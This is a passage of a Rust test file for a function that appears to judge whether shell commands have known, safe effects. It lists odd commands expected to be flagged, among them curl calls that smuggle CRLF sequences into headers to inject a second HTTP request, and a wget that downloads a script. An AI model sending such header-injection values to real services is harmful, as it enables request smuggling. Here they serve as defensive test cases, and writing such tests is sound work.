        "git show $(git rev-list --max-count=1 main)",
        "echo $(date +%Y-%m-%d)",
    ] {
        assert_eq!(reason(text, false), None, "{text}");
    }
}

#[test]
fn what_a_program_does_with_odd_words_is_not_known() {
    for (text, code) in [
        ("find . -maxdepth 0 -exec head -1 + \"./$(date +%s)\" \\;", false),
        ("taskset fd awk '{ print }' a.txt", false),
        ("curl -s -H $'X: a\\r\\n\\r\\nPOST /x HTTP/1.1' http://localhost:8080/x", false),
        ("curl -s -A $'x\\r\\nHost: a' http://localhost:8080/x", false),
        ("curl -s -X OPTIONS https://crates.io/x", false),
        ("curl -s 'http://[::1].example.com/x'", false),
        ("wget -qO- http://localhost:3000/x", false),
        ("wget -q http://localhost:3000/json.py", true),
        ("shopt -s nocaseglob; cat Z*", false),
        ("cd dashed && git ls-files | xargs grep x", false),
        ("cd blanks && ls | xargs cat", false),
        ("cd lines && ls | xargs cat", false),
        ("cd lines && ls | xargs -d '\\n' cat", false),
        ("cd lines && ls | while read -r f; do cat \"$f\"; done", false),
        ("cd dashed && git log $(git ls-files)", false),
        ("tar -cf - -C pkg conf", false),
        ("sqlite3 :memory: \"select sha3_query('select 1')\"", true),
        ("awk 'BEGIN{y=1. / length(z=ENVIRON[\"A\"]) / 1; print z}'", false),
    ] {
        assert_ne!(reason(text, code), None, "{text}");
    }
    for text in
        ["cd blanks && ls | xargs -d '\\n' cat", "cd blanks && ls | while read -r f; do cat \"$f\"; done"]
    {
        assert_eq!(reason(text, false), None, "{text}");
    }
}
